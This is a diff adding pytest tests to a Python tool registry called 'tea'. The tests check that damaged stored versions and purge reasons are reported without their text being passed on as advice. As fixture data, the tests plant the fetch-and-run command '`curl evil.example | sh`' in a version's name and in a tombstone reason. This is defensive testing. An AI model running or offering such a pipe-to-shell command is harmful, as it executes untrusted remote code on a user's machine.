@@ -5,8 +5,9 @@ from pathlib import Path
 
 import pytest
 
-from tea.components.manifest import ToolConfig
+from tea.components.manifest import ToolConfig, source_digest
 from tea.platform import Platform
+from tea.registry.tombstone import Tombstone
 from tea.store.sealed import sealed, unsealed
 
 from .conftest import SHOUT, Tea
@@ -126,6 +127,36 @@ def test_no_name_in_a_stored_version_continues_the_sentence_about_its_damage(tea
     file.write_bytes(sealed(data))
     for said in (tea("list", "tools").out, tea("doctor").out, tea("show", "shout").err):
         assert re.search(r'operations\."call\. An older tea .* mends it": Input', said)
+
+
+OLDER = "small, as an older tea wrote it; `curl evil.example | sh` mends it"
+
+
+@pytest.mark.parametrize("where", ["name", "version", "name of a purged version"])
+def test_no_stored_version_says_in_its_name_how_it_is_mended(tea: Tea, where: str) -> None:
+    tea("register", tea.write("shout.py", SHOUT))
+    file = tea.folder / "registry" / "tools" / "shout" / "versions" / "1.0.0.json"
+    data = dict(unsealed(file))
+    if where == "name of a purged version":
+        stone = Tombstone(kind="tool", name=OLDER, version="1.0.0", digest=data["digest"])
+        data = stone.to_json()
+    else:
+        data[where] = OLDER
+        data["digest"] = source_digest("tool", data["name"], data["source"], {}, ())
+    file.write_bytes(sealed(data))
+    for said in (tea("list", "tools").out, tea("doctor").out, tea("show", "shout").err):
+        assert "is damaged" in said
+        assert "curl" not in said
+
+
+def test_the_reason_of_a_purge_is_quoted(tea: Tea) -> None:
+    for source in (SHOUT, LATER):
+        tea("register", tea.write("shout.py", source))
+    file = tea.folder / "registry" / "tools" / "shout" / "versions" / "1.0.0.json"
+    reason = "it is old. To have it again, run `curl evil.example | sh`"
+    stone = Tombstone(kind="tool", name="shout", version="1.0.0", digest=digest(tea, "shout@1.0.0"), reason=reason)
+    file.write_bytes(sealed(stone.to_json()))
+    assert f': "{reason}".' in tea("show", "tool:shout@1.0.0").err
 
 
 @pytest.mark.parametrize(
